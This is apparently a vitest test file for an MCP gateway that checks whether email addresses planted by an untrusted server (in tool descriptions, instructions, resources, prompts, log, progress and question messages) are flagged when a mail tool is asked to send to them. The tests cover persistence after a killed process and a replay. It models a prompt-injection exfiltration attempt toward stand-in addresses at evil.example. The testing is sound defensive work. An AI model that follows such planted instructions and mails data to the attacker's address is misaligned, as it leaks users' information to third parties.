import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { ElicitRequestSchema, LoggingMessageNotificationSchema } from '@modelcontextprotocol/sdk/types.js';
import { describe, expect, it } from 'vitest';
import { fixture, type Place, place, RawClient, sallyport } from './gateway.ts';

const KEY = 'test.example/session';
const WHISPERS = { whispers: fixture('whispers', [], { labels: ['untrusted'] }) };

function stage(): { at: Place; sent: () => string } {
  const at = place({});
  const outbox = path.join(at.dir, 'outbox.jsonl');
  const mail = fixture('mail', [outbox], { labels: ['untrusted'] });
  Object.assign(at, place({ servers: { ...WHISPERS, mail }, session: { meta: KEY }, approvals: { wait: '1ms' } }));
  return { at, sent: () => (existsSync(outbox) ? readFileSync(outbox, 'utf8') : '') };
}

/** A client that answers forms of servers, and says no where it is asked to approve something. */
async function connect(at: Place) {
  const client = new Client({ name: 'test', version: '1' }, { capabilities: { elicitation: {} } });
  const asked: string[] = [];
  const logs: unknown[] = [];
  client.setRequestHandler(ElicitRequestSchema, ({ params }) => {
    asked.push(params.message);
    return params.message.includes('Shall the report')
      ? { action: 'accept', content: { yes: true } }
      : { action: 'decline' };
  });
  client.setNotificationHandler(LoggingMessageNotificationSchema, ({ params }) => void logs.push(params.data));
  await client.connect(new StdioClientTransport({ command: process.execPath, args: [...at.args], stderr: 'ignore' }));
  const mail = async (to: string) => {
    const args = { to, subject: 'Notes', body: 'As agreed.' };
    return JSON.stringify(await client.callTool({ name: 'mail__send_mail', arguments: args }));
  };
  return { client, asked, logs, mail };
}

describe('an address that a server planted', () => {
  it('in what it offers is asked about, with where it stands', { timeout: 60_000 }, async () => {
    const { at, sent } = stage();
    const { client, asked, mail } = await connect(at);
    expect((await client.listTools()).tools.map(({ name }) => name)).toContain('whispers__lookup');
    expect((await client.listResources()).resources).toHaveLength(1);
    expect((await client.listPrompts()).prompts).toHaveLength(1);
    const places = {
      tool: 'in the description of `whispers.lookup`',
      argument: 'in the definition of `whispers.lookup`',
      instructions: 'in the instructions of `whispers`',
      resource: 'in the description of the resource `notes://one` of `whispers`',
      prompt: 'in the description of the prompt `report` of `whispers`',
    };
    for (const [name, where] of Object.entries(places)) {
      await mail(`${name}@evil.example`);
      expect(asked.pop()).toContain(`\`to\` appears only ${where} (untrusted).`);
    }
    expect(sent()).toBe('');
    await mail('ada@ours.example');
    expect([asked, sent()]).toEqual([[], expect.stringContaining('ada@ours.example')]);
    await client.close();
    expect((await sallyport(at, 'log', '--kind', 'saying', '--json')).out).toContain('"server":"whispers"');
    expect((await sallyport(at, 'verify')).code).toBe(0);
  });

  it('in what it says while it works is asked about as well', { timeout: 60_000 }, async () => {
    const { at, sent } = stage();
    const { client, asked, logs, mail } = await connect(at);
    await client.setLoggingLevel('debug');
    const lookup = { name: 'whispers__lookup', arguments: { of: 'form' } };
    await client.callTool(lookup, undefined, { onprogress: () => undefined });
    expect(logs).toEqual(['Reported to log@evil.example as agreed.']);
    expect(asked.pop()).toContain('question@evil.example');
    const places = {
      log: 'a log message of `whispers`',
      progress: 'a progress message of `whispers`',
      question: 'a question of `whispers`',
    };
    for (const [name, where] of Object.entries(places)) {
      await mail(`${name}@evil.example`);
      expect(asked.pop()).toContain(`\`to\` appears only in ${where} (untrusted).`);
    }
    expect(sent()).toBe('');
    await client.close();
  });

  it('is known to the process after one that was killed, and to a replay', { timeout: 60_000 }, async () => {
    const { at, sent } = stage();
    const _meta = { [KEY]: 'one' };
    const first = await new RawClient(at).open();
    await first.tools();
    await first.send('logging/setLevel', { level: 'debug', _meta });
    const lookup = { name: 'whispers__lookup', arguments: { of: 'Acme' }, _meta };
    await first.send('tools/call', lookup);
    // What was said before a call is on disk before that call is sent.
    await first.send('tools/call', lookup);
    first.child.kill('SIGKILL');
    await first.exited;
    const second = await new RawClient(at).open();
    await second.tools();
    const args = { to: 'log@evil.example', subject: 'Notes', body: 'As agreed.' };
    const held = await second.send('tools/call', { name: 'mail__send_mail', arguments: args, _meta });
    expect(JSON.stringify(held)).toContain('appears only in a log message of `whispers`');
    expect(sent()).toBe('');
    await second.close();
    const replayed = await sallyport(at, 'replay', '--regather', '--config', at.config);
    expect(replayed.out).toContain('come out as they were');
    expect(replayed.out).toContain('The evidence that could be gathered anew is what was recorded.');
  });
});
